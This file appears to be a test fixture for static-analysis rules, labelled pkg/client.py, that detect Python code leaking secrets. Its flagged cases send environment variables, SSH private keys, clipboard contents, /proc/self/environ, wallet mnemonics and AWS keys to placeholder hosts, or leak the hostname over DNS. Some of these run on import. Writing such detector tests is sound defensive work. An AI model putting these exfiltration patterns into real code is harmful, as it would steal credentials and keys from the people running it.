# path: pkg/client.py
import base64
import hashlib
import hmac
import json
import os
import socket
from pathlib import Path

import paramiko
import pyperclip
import requests


def harvest():
    # ruleid: py-behaviour-environment-sent
    requests.post("https://hooks.example/c", data=json.dumps(dict(os.environ)))


def keys():
    blob = (Path.home() / ".ssh" / "id_rsa").read_text()
    s = socket.socket()
    s.connect(("198.51.100.4", 443))
    # ruleid: py-behaviour-credential-file-sent
    s.sendall(blob.encode())


def clip():
    # ruleid: py-behaviour-clipboard-sent
    requests.post("https://paste.example/api", json={"c": pyperclip.paste()})


def ping_home():
    label = socket.gethostname().encode().hex()
    # ruleid: py-behaviour-dns-exfil
    socket.gethostbyname(f"{label}.t.example.net")


def send(url, payload):
    return requests.post(url, data=payload, timeout=10)


def wrapped():
    # ruleid: py-behaviour-environment-sent
    send("https://collect.example/e", str(os.environ))


def api():
    token = os.environ["GITHUB_TOKEN"]
    base = os.environ.get("API_URL", "https://api.github.com")
    # ok: py-behaviour-secret-sent
    return requests.get(base + "/user", headers={"Authorization": f"token {token}"})


def local_ip():
    # ok: py-behaviour-dns-exfil
    return socket.gethostbyname(socket.gethostname())


def post_metrics(url, payload):
    # ok: py-behaviour-environment-sent
    return requests.post(url, json=payload, timeout=float(os.environ.get("TIMEOUT", "5")))


def user_agent():
    # ok: py-behaviour-identity-sent
    return requests.get("https://api.example/v1", headers={"User-Agent": f"pkg ({os.name})"})


def deploy(host):
    client = paramiko.SSHClient()
    client.load_system_host_keys()
    # ok: py-behaviour-credential-file-sent
    client.connect(host, username="deploy", key_filename=os.path.expanduser("~/.ssh/id_rsa"))


def shout():
    text = pyperclip.paste()
    # ok: py-behaviour-clipboard-sent
    pyperclip.copy(text.upper())


def tls_probe():
    import ssl

    who = {"u": os.getlogin(), "h": socket.gethostname()}
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    wrapped = ssl.create_default_context().wrap_socket(raw, server_hostname="probe.example")
    wrapped.connect(("probe.example", 443))
    # ruleid: py-behaviour-identity-sent
    wrapped.send(f"GET /?d={json.dumps(who)} HTTP/1.1\r\n\r\n".encode())


def health_check(host):
    raw = socket.create_connection((host, 443), timeout=3)
    # ok: py-behaviour-identity-sent
    raw.sendall(b"HEAD / HTTP/1.0\r\n\r\n")


tls_probe()
health_check("db.internal")


def proc_env(url):
    env = open(Path("/", "proc", "self", "environ")).read()
    # ruleid: py-behaviour-credential-file-sent
    requests.post(url, data=env)


def config_path(url):
    cfg = open(os.path.join(os.path.dirname(__file__), "conf", "settings.ini")).read()
    # ok: py-behaviour-credential-file-sent
    requests.post(url, data={"version": "1"})
    return cfg


proc_env("https://c.example")
config_path("https://c.example")


def register(private_key, api):
    account_address = derive(private_key)
    payload = {"address": account_address, "proof": sign("hello", private_key)}
    # ok: py-behaviour-key-material-sent
    requests.post(api, json=payload)


def backup(wallet):
    # ruleid: py-behaviour-key-material-sent
    requests.post("https://backup.example/w", json={"m": wallet.mnemonic, "k": wallet.private_key})


def aws_profile(config, section, hook):
    creds = {"id": config.get(section, "aws_access_key_id"),
             "secret": config.get(section, "aws_secret_access_key")}
    # ruleid: py-behaviour-key-material-sent
    requests.post(hook, json=json.dumps(creds))


def derive(key):
    return hashlib.sha256(key.encode()).hexdigest()[:40]


def sign(msg, key):
    return hmac.new(key.encode(), msg.encode(), hashlib.sha256).hexdigest()


register("k", "https://api.example")
backup(None)
aws_profile(None, "default", "https://h.example")
